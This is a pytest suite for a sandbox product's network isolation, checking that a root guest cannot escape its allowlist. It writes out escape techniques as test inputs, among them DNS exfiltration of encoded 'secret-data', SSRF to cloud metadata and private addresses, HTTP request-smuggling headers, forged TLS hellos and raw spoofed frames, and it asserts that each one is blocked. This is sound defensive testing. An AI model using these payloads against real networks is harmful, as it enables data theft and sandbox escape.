"""The network: whatever a guest does as root, nothing goes where its policy does not let it go. A real
guest, a real server, and an outside of network namespaces with public addresses (tests/lib/netlab.py)."""

import base64
import os
import pathlib
import struct
import subprocess
import tempfile
import zipfile

import netlab
import product
import pytest

pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="makes network namespaces")

GOOD, OTHER, SHARED, RESOLVER = "8.1.1.1", "8.2.2.2", "8.3.3.3", "8.8.8.8"
NAMES = {"good.example": GOOD, "other.example": OTHER, "a.shared.example": SHARED, "b.shared.example": SHARED,
         "rebind.wild.example": "127.0.0.1", "meta.wild.example": "169.254.169.254", "private.wild.example": "10.0.0.7",
         "self.wild.example": netlab.HOST, "gateway.wild.example": "172.30.1.1"}

# Port 80 serves a folder, /big, /ws and says which Host it was asked for; 443 the same over TLS; the
# others echo. Every datagram that arrives is written down.
OUTSIDE = r"""
import base64, hashlib, http.server, os, socket, socketserver, ssl, sys, threading
folder, seen = sys.argv[1], open(sys.argv[2], "a", buffering=1)
class H(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def __init__(self, *a):
        super().__init__(*a, directory=folder)
    def log_message(self, *_):
        pass
    def do_GET(self):
        if self.path == "/host":
            data = (self.headers["Host"] + " reached\n").encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)
        elif self.path.startswith("/big/"):
            n = int(self.path[5:])
            self.send_response(200)
            self.send_header("Content-Length", str(n))
            self.end_headers()
            while n > 0:
                self.wfile.write(bytes(min(n, 1 << 20)))
                n -= 1 << 20
        elif self.path == "/ws":
            accept = base64.b64encode(hashlib.sha1((self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest())
            self.wfile.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " + accept + b"\r\n\r\n")
            head = self.rfile.read(6)
            data = self.rfile.read(head[1] & 127)
            plain = bytes(b ^ head[2 + i % 4] for i, b in enumerate(data))
            self.wfile.write(bytes([129, len(plain)]) + plain)
            self.close_connection = True
        else:
            super().do_GET()
    def do_POST(self):
        self.do_GET()
class Echo(socketserver.BaseRequestHandler):
    def handle(self):
        seen.write(f"tcp {self.server.server_address[1]}\n")
        while data := self.request.recv(65536):
            self.request.sendall(data)
class S(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 1024
def serve(port, handler, tls=None):
    s = S(("0.0.0.0", port), handler)
    if tls:
        s.socket = tls.wrap_socket(s.socket, server_side=True, do_handshake_on_connect=False)
    threading.Thread(target=s.serve_forever, daemon=True).start()
def datagrams(kind, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW if kind == "icmp" else socket.SOCK_DGRAM, socket.IPPROTO_ICMP if kind == "icmp" else 0)
    if port:
        s.bind(("0.0.0.0", port))
    while True:
        s.recv(2048)
        seen.write(f"{kind} {port}\n")
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(folder + "/../cert.pem")
serve(80, H)
serve(443, H, context)
for port in (22, 853, 8080, 8443):
    serve(port, Echo)
for kind, port in (("udp", 443), ("udp", 123), ("udp", 5353), ("icmp", 0)):
    threading.Thread(target=datagrams, args=(kind, port), daemon=True).start()
print("up")
threading.Event().wait()
"""


@pytest.fixture(scope="module")
def lab():
    with netlab.Lab([GOOD, OTHER, SHARED, RESOLVER, "1.1.1.1"]) as lab, tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        (folder / "www").mkdir()
        subprocess.run(f"openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=outside "
                       f"-keyout {folder}/cert.pem -out {folder}/crt && cat {folder}/crt >> {folder}/cert.pem && "
                       f"git init -qb main {folder}/work && cd {folder}/work && echo 'over http' > a.txt && git add . && "
                       f"git -c user.name=t -c user.email=t@t commit -qm one && git clone -q --bare . {folder}/www/p.git && "
                       f"git -C {folder}/www/p.git update-server-info", shell=True, check=True, capture_output=True)
        index = folder / "www" / "simple" / "caged-probe"
        index.mkdir(parents=True)
        wheel = "caged_probe-1.0-py3-none-any.whl"
        with zipfile.ZipFile(index / wheel, "w") as z:
            z.writestr("caged_probe.py", "word = 'installed'\n")
            z.writestr("caged_probe-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: caged-probe\nVersion: 1.0\n")
            z.writestr("caged_probe-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
            z.writestr("caged_probe-1.0.dist-info/RECORD", "")
        (index / "index.html").write_text(f'<a href="{wheel}">{wheel}</a>')
        lab.asked, lab.arrived = folder / "asked", folder / "arrived"
        lab.asked.touch()
        lab.arrived.touch()
        lab.python(netlab.RESOLVER, lab.asked, RESOLVER, *(f"{n}={a}" for n, a in NAMES.items()))
        lab.python(OUTSIDE, folder / "www", lab.arrived)
        yield lab


@pytest.fixture(scope="module")
def server(lab):
    with product.Server(f"network:\n  resolvers: [{RESOLVER}]\n") as s:
        yield s


@pytest.fixture(scope="module")
def box(server):
    s = server.create(template="python-313", memory_mb=384, disk_gb=1, allowlist=["good.example"])
    yield s
    s.destroy()


def policy(box, mode, allow=(), deny=()):
    return box.server.api("PATCH", box.path + "/network", {"mode": mode, "allow": list(allow), "deny": list(deny)})


def root(box, command, **kw):
    return box.exec(command, user="root", timeout_ms=60000, **kw)["output"]


def curl(box, *args):
    return root(box, "curl -sS -k -m 10 " + " ".join(f"'{a}'" for a in args) + " 2>&1")


def raw(box, address, port, *parts):
    """Bytes sent to a port, with half a second between the parts; what came back."""
    sends = "; sleep 0.5; ".join(f"echo {base64.b64encode(p).decode()} | base64 -d >&3" for p in parts)
    out = root(box, f"exec 2>/dev/null; exec 3<>/dev/tcp/{address}/{port} || exit 9; {sends}; timeout 3 cat <&3 | base64 -w0")
    return base64.b64decode(out.strip())


def python(box, source):
    return root(box, f"echo {base64.b64encode(source.encode()).decode()} | base64 -d > /tmp/x.py; python3 /tmp/x.py 2>&1")


def dns(box, name, kind, to=RESOLVER):
    """(rcode, answers) of a question that root sends itself, to a resolver of its choice."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
    out = root(box, f"exec 3<>/dev/udp/{to}/53; echo {base64.b64encode(q).decode()} | base64 -d >&3; "
                    f"timeout 5 dd bs=4096 count=1 <&3 2>/dev/null | base64 -w0")
    answer = base64.b64decode(out)
    assert answer, "no answer"
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]


def lines(path):
    return path.read_text().split("\n")[:-1]


@pytest.mark.parametrize("mode, allow", [("none", []), ("allowlist", []), ("allowlist", ["good.example"])])
def test_dns_carries_nothing_out_of_what_is_denied(lab, box, mode, allow):
    policy(box, mode, allow)
    before = len(lines(lab.asked))
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 41, 43, 48, 64, 65, 252, 255, 257, 65399):
        assert dns(box, "c2VjcmV0LWRhdGE.other.example", kind) == (3, 0), kind
    assert dns(box, "a" * 63 + "." + "b" * 63 + "." + "c" * 63 + ".example", 16) == (3, 0)
    assert dns(box, "x.good.example", 16, to="1.1.1.1") == (3, 0)
    assert dns(box, "other.example", 1, to="9.9.9.9") == (3, 0)
    assert lines(lab.asked)[before:] == []
    for port in (853, 443, 53):  # DoT, DoH by address; TCP 53 is the warden's own resolver
        assert not raw(box, "1.1.1.1", port, b"\0\x03abc")
    assert "tcp 853" not in lines(lab.arrived)


def test_none_leaves_nothing(lab, box):
    policy(box, "none")
    before = lines(lab.arrived)
    for address in (GOOD, OTHER, "1.1.1.1", netlab.HOST, "127.0.0.1", "172.30.0.1"):
        for port in (22, 80, 443, 8080):
            if (address, port) != ("127.0.0.1", 22):
                assert b"reached" not in raw(box, address, port, b"GET /host HTTP/1.1\r\nHost: good.example\r\n\r\n")
    assert "DOOR" not in python(box, """
import socket
for cid in (0, 1, 2):
    for port in (1, 22, 80, 1024, 5000):
        try:
            s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect((cid, port))
            print("DOOR", cid, port)
        except OSError as e:
            print(e)
""")
    assert lines(lab.arrived) == before


def test_nothing_but_tcp_and_dns_leaves(lab, box):
    policy(box, "full")
    before = lines(lab.arrived)
    root(box, f"for p in 443 123 5353; do echo x > /dev/udp/{GOOD}/$p; done")  # QUIC, NTP, mDNS
    python(box, f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("{GOOD}", 0))
for protocol in (47, 50, 132, 4, 41):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol).sendto(b"x" * 40, ("{GOOD}", 0))
""")
    assert "reached" in curl(box, f"http://{GOOD}/host")
    assert lines(lab.arrived) == before
    product.wait_for("drops are counted", lambda: box.server.api("GET", box.path + "/status")["network"]["dropped_packets"] >= 3, 20)
    product.wait_for("and recorded", lambda: [e for e in box.events("network") if e["data"]["event"] == "dropped"], 20)


def test_ipv6_is_absent(lab, box):
    policy(box, "allowlist", ["good.example"])
    root(box, "sysctl -w net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.default.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0; "
              "ip -6 addr add 2001:db8::2/64 dev eth0; ip -6 route add default via 2001:db8::1; ip link set eth0 down; ip link set eth0 up; true")
    out = python(box, """
import socket
for address in ("ff02::1%eth0", "2001:db8::1", "fe80::1%eth0", "::ffff:8.2.2.2", "64:ff9b::8.2.2.2"):
    try:
        s = socket.create_connection((address, 8080), 2)
        s.sendall(b"reached")
        print("got", s.recv(100))
    except OSError as e:
        print(address, e)
""")
    out += root(box, "curl -6 -sS -m 3 http://[2001:db8::1]/; curl -6 -sS -m 3 http://[::ffff:8.2.2.2]/host; "
                    "curl -6 -sS -m 3 http://[64:ff9b::8.2.2.2]/host; curl -6 -sS -m 3 http://good.example/host")
    assert "reached" not in out and "bytes from" not in out, out
    assert dns(box, "good.example", 28) == (0, 0)
    root(box, "ip addr add 172.30.0.2/30 dev eth0 2>/dev/null; ip link set eth0 up; ip route replace default via 172.30.0.1; true")
    assert "reached" in curl(box, "http://good.example/host")


@pytest.mark.parametrize("host", ["127.1", "0x7f000001", "0177.0.0.1", "2130706433", "[::ffff:127.0.0.1]", "[::1]", "[fe80::1%25eth0]",
                                  "good.example%00.other.example", "good.example@other.example", "other.example#good.example",
                                  "good.example\\@other.example", "good.example%0d%0aHost:other.example", "xn--gd-fkaa.example"])
def test_strange_names_and_addresses_open_nothing(box, host):
    policy(box, "allowlist", ["good.example"])
    assert "reached" not in curl(box, f"http://{host}/host")


def test_a_name_with_a_dot_behind_is_the_same_name(box):
    policy(box, "allowlist", ["good.example"])
    assert "reached" in curl(box, "http://GOOD.Example/host")
    assert "reached" not in curl(box, "http://other.example./host")


@pytest.mark.parametrize("mode", ["full", "allowlist"])
def test_names_that_lead_inside_lead_nowhere(box, mode):
    policy(box, mode, ["*.wild.example"] if mode == "allowlist" else [])
    for name in ("rebind", "meta", "private", "self", "gateway"):
        out = curl(box, f"http://{name}.wild.example/host")
        assert "resolve" in out, out
    for address in ("127.0.0.1", "169.254.169.254", "10.0.0.7", netlab.HOST, netlab.ROUTER, "172.30.0.1", "172.30.0.3", "172.30.1.1",
                    "192.168.0.1", "224.0.0.1", "255.255.255.255", "0.0.0.0", "100.100.100.200", "168.63.129.16"):
        out = curl(box, f"http://{address}:8080/host")
        assert "reached" not in out and "timed out" not in out, out


def test_the_servers_own_port_is_not_reachable(box):
    policy(box, "full")
    port = box.server.url.rsplit(":", 1)[1]
    for address in ("127.0.0.1", "172.30.0.1", netlab.HOST, "host.caged.internal", "172.30.1.1", "gateway.caged.internal"):
        assert "caged" not in curl(box, f"http://{address}:{port}/health").replace("caged refused", "").replace(f"{address}", "")


def test_sni_host_and_name_must_agree(lab, box):
    policy(box, "allowlist", ["a.shared.example", "good.example"])
    assert "reached" in curl(box, "https://a.shared.example/host")
    assert "reached" not in curl(box, "https://b.shared.example/host")
    # the address of an allowed name, asked for another
    assert "reached" not in curl(box, "https://b.shared.example/host", "--resolve", f"b.shared.example:443:{SHARED}")
    assert "reached" not in curl(box, "https://b.shared.example/host", "--connect-to", "::a.shared.example:443")
    assert "reached" not in curl(box, f"https://{SHARED}/host")  # no name at all
    # an allowed name at an address that it does not have: forged by /etc/hosts or by hand
    assert "reached" not in curl(box, "https://good.example/host", "--resolve", f"good.example:443:{SHARED}")
    root(box, f"echo '{OTHER} good.example' >> /etc/hosts")
    assert "reached" not in curl(box, "https://good.example/host")
    assert "reached" not in curl(box, "http://good.example/host")
    root(box, "sed -i '/good.example/d' /etc/hosts")
    assert "reached" in curl(box, "https://good.example/host")
    told = [e["data"] for e in box.events("network") if e["data"]["event"] == "open" and e["data"]["verdict"] == "deny"]
    assert {"TLS without a server name", "name was not resolved to this address", "mode allowlist"} <= {e["rule"] for e in told}


def hello(name, hidden=False):
    n = name.encode()
    extensions = struct.pack(">HHHBH", 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    extensions += struct.pack(">HH", 0xFE0D, 4) + bytes(4) if hidden else b""
    body = b"\3\3" + bytes(32) + b"\0\0\2\xc0\x2b\1\0" + struct.pack(">H", len(extensions)) + extensions
    return b"\1" + struct.pack(">I", len(body))[1:] + body


def records(data, size):
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(data[i:i + size])) + data[i:i + size] for i in range(0, len(data), size))


def test_hellos_in_pieces_hidden_and_huge(box):
    policy(box, "allowlist", ["a.shared.example:8443", "a.shared.example"])
    curl(box, "https://a.shared.example/host")  # so it is looked up
    good, bad = records(hello("a.shared.example"), 9999), records(hello("b.shared.example"), 9999)
    small = records(hello("b.shared.example"), 7)
    assert raw(box, SHARED, 8443, good) == good
    assert raw(box, SHARED, 8443, records(hello("a.shared.example"), 7)) == records(hello("a.shared.example"), 7)
    assert raw(box, SHARED, 443, good[:20], good[20:])  # the TLS server answers with an alert
    for parts in ([bad], [bad[:30], bad[30:]], [small], [small[:3], small[3:]], [records(hello("a.shared.example", True), 9999)],
                  [b"\x16\3\1\x40\x00\1\0\xff\xff" + bytes(16384)]):
        assert not raw(box, SHARED, 8443, *parts), parts
    assert b"HTTP/1.1 200" not in raw(box, SHARED, 443, b"GET / HTTP/1.0\r\n\r\n")
    assert not raw(box, SHARED, 443, b"SSH-2.0-x\r\n")
    assert not raw(box, SHARED, 443, b"")


def test_plain_http_cannot_be_turned_to_another_host(box):
    policy(box, "allowlist", ["a.shared.example"])
    assert "reached" in curl(box, "http://a.shared.example/host")

    def said(*heads):
        return raw(box, SHARED, 80, b"".join(h.replace("\n", "\r\n").encode() + b"\r\n\r\n" for h in heads))

    good = "GET /host HTTP/1.1\nHost: a.shared.example"
    assert said(good, good).count(b"a.shared.example reached") == 2
    for heads in (["GET /host HTTP/1.1\nHost: b.shared.example"], [good, "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["GET /host HTTP/1.1\nHost: a.shared.example\nHost: b.shared.example"], ["GET http://b.shared.example/host HTTP/1.1\nHost: a.shared.example"],
                  ["GET /host HTTP/1.1\nHost: a.shared.example\n Host: b.shared.example"], ["GET /host HTTP/1.1"], ["GET /host HTTP/1.0"],
                  ["CONNECT b.shared.example:80 HTTP/1.1\nHost: a.shared.example", "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["POST /host HTTP/1.1\nHost: a.shared.example\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0", "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["POST /host HTTP/1.1\nHost: a.shared.example\nContent-Length: 0\nContent-Length: 60", "GET /host HTTP/1.1\nHost: b.shared.example"],
                  ["GET /host HTTP/1.1\nHost: a.shared.example\nUpgrade: h2c\nConnection: Upgrade", "GET /host HTTP/1.1\nHost: b.shared.example"]):
        assert b"b.shared.example reached" not in said(*heads), heads
    page = said("GET /host HTTP/1.1\nHost: b.shared.example").decode()
    assert "403" in page and "Rule: mode allowlist" in page and f"caged network {box.id} allow b.shared.example" in page


def test_what_the_guest_does_to_its_own_network_changes_nothing(lab, box):
    """Forged frames: another source address, another MAC, a VLAN tag, IPv6, a made-up protocol; and rules of its own."""
    policy(box, "allowlist", ["good.example"])
    before = lines(lab.arrived)
    dropped = box.server.api("GET", box.path + "/status")["network"]["dropped_packets"]
    root(box, "nft flush ruleset 2>/dev/null; iptables -F 2>/dev/null; true")
    out = python(box, f"""
import socket, struct
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
host = bytes.fromhex("02ca9e000001")
def checksum(b):
    t = sum(struct.unpack(f">{{len(b) // 2}}H", b))
    while t >> 16:
        t = (t & 65535) + (t >> 16)
    return 65535 - t
def syn(source, target, port):
    tcp = struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 0x50, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, 20)
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + socket.inet_aton(source) + socket.inet_aton(target)
    return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + tcp
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
for _ in range(10):
    s.send(host + mac + b"\\x08\\x00" + syn("10.9.9.9", "{OTHER}", 8080))
    s.send(host + bytes(6) + b"\\x08\\x00" + syn("172.30.0.2", "{OTHER}", 8080))
    s.send(host + mac + b"\\x81\\x00\\x00\\x05\\x08\\x00" + syn("172.30.0.2", "{OTHER}", 8080))
    s.send(host + mac + b"\\x86\\xdd" + bytes([0x60]) + bytes(59))
    s.send(b"\\xff" * 6 + mac + b"\\x88\\xb5" + bytes(50))
print("sent")
""")
    assert "sent" in out, out
    product.wait_for("all are dropped and counted", lambda: box.server.api("GET", box.path + "/status")["network"]["dropped_packets"] >= dropped + 50, 20)
    assert "reached" not in curl(box, f"http://{OTHER}/host")
    assert "reached" in curl(box, "http://good.example/host")
    assert lines(lab.arrived) == before


def test_proxy_variables_are_no_door(box):
    policy(box, "allowlist", ["good.example"])
    out = root(box, f"unset http_proxy https_proxy; http_proxy=http://{OTHER}:8080 curl -sS -m 5 http://other.example/host; "
                    f"ALL_PROXY=socks5h://{OTHER}:8080 curl -sS -m 5 http://good.example/host 2>&1")
    assert "reached" not in out


def test_a_change_cuts_what_is_open(box):
    policy(box, "full")
    root(box, f"(exec 3<>/dev/tcp/{GOOD}/8080; sleep 60 & cat <&3 >/dev/null; echo cut > /tmp/cut) >/dev/null 2>&1 & "
              f"(exec 3<>/dev/tcp/{GOOD}/443; cat <&3 >/dev/null; echo cut > /tmp/cut2) >/dev/null 2>&1 & sleep 1", detach=False)
    assert root(box, "ls /tmp/cut 2>/dev/null").strip() == ""
    policy(box, "none")
    product.wait_for("both are cut", lambda: root(box, "cat /tmp/cut /tmp/cut2 2>/dev/null").split() == ["cut", "cut"], 20)
    closed = [e["data"] for e in box.events("network") if e["data"]["event"] == "close"]
    assert [e["reason"] for e in closed[-2:]] == ["policy", "policy"]
    assert "reached" not in curl(box, "http://good.example/host")


# --- what must work ---

def test_clients_go_through_an_allowlist(box):
    policy(box, "allowlist", ["good.example"])
    assert "good.example reached" in curl(box, "http://good.example/host")
    assert "good.example reached" in curl(box, "https://good.example/host")
    assert box.run("cd /tmp && rm -rf p && git clone -q http://good.example/p.git p && cat p/a.txt") == "over http"
    assert box.run("cd /tmp && rm -rf p && git -c http.sslVerify=false clone -q https://good.example/p.git p && cat p/a.txt") == "over http"
    frame = b"\x81\x85\1\2\3\4" + bytes(b ^ (1 + i % 4) for i, b in enumerate(b"hello"))
    upgrade = (b"GET /ws HTTP/1.1\r\nHost: good.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
               b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
    answer = raw(box, GOOD, 80, upgrade, frame)
    assert b"101 Switching" in answer and answer.endswith(b"\x81\x05hello")


def test_pip_installs_through_an_allowlist(lab, box):
    policy(box, "allowlist", ["good.example"])
    out = root(box, "python3 -m venv /tmp/v && /tmp/v/bin/pip install -q --disable-pip-version-check --index-url http://good.example/simple/ "
                    "--trusted-host good.example caged-probe && /tmp/v/bin/python -c 'import caged_probe; print(caged_probe.word)'")
    assert out.strip().endswith("installed"), out
    out = root(box, "/tmp/v/bin/pip install -q --retries 0 --disable-pip-version-check --index-url http://other.example/simple/ "
                    "--trusted-host other.example --force-reinstall caged-probe 2>&1")
    assert "No matching distribution" in out or "Could not" in out, out


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_large_download_arrives_whole_and_is_counted(box, scheme):
    policy(box, "allowlist", ["good.example"])
    size = 64 << 20
    before = box.server.api("GET", box.path + "/status")["network"]["bytes_in"]
    out = root(box, f"curl -sS -k -m 55 {scheme}://good.example/big/{size} | wc -c")
    assert out.strip() == str(size), out
    closed = product.wait_for("its end is recorded", lambda: [
        e["data"] for e in box.events("network") if e["data"]["event"] == "close" and e["data"]["bytes_in"] >= size], 20)[-1]
    assert closed["duration_ms"] > 0 and closed["name"] == "good.example" and closed["protocol"] == ("http" if scheme == "http" else "tls")
    assert box.server.api("GET", box.path + "/status")["network"]["bytes_in"] >= before


def test_five_hundred_connections_at_once(box):
    policy(box, "allowlist", ["good.example:8080"])
    curl(box, "http://good.example/host")
    out = root(box, "ulimit -n 4096; n=0; fds=(); for i in $(seq 500); do if exec {fd}<>/dev/tcp/good.example/8080; then fds+=($fd); fi; done; "
                    "for fd in ${fds[@]}; do echo ping >&$fd; done; for fd in ${fds[@]}; do read -t 20 line <&$fd; [ \"$line\" = ping ] && n=$((n+1)); done; echo $n")
    assert out.strip().split("\n")[-1] == "500", out


def test_the_policy_outlives_server_and_pause(server):
    box = server.create(memory_mb=256, disk_gb=1, allowlist=["good.example"], denylist=["x.good.example"])
    try:
        server.cli("network", box.id, "allow", "*.shared.example")
        server.kill()
        server.start()
        product.wait_for("connected again", lambda: box.exec("true")["exit_code"] == 0, 30)
        info = server.api("GET", box.path)
        assert (info["network_mode"], info["allowlist"], info["denylist"]) == ("allowlist", ["good.example", "*.shared.example"], ["x.good.example"])
        assert "reached" in curl(box, "http://a.shared.example/host")
        server.api("POST", box.path + "/pause")
        changed = server.api("PATCH", box.path + "/network", {"remove": ["good.example"]})
        assert changed["allow"] == ["*.shared.example"]
        server.api("POST", box.path + "/resume")
        assert "reached" in curl(box, "http://a.shared.example/host")
        assert "reached" not in curl(box, "http://good.example/host")
        child = server.api("POST", box.path + "/fork", {})
        child = child[0] if isinstance(child, list) else child
        assert server.api("GET", f"/v1/sandboxes/{child.get('id') or child['sandboxes'][0]['id']}/network")["allow"] == ["*.shared.example"]
    finally:
        box.destroy()
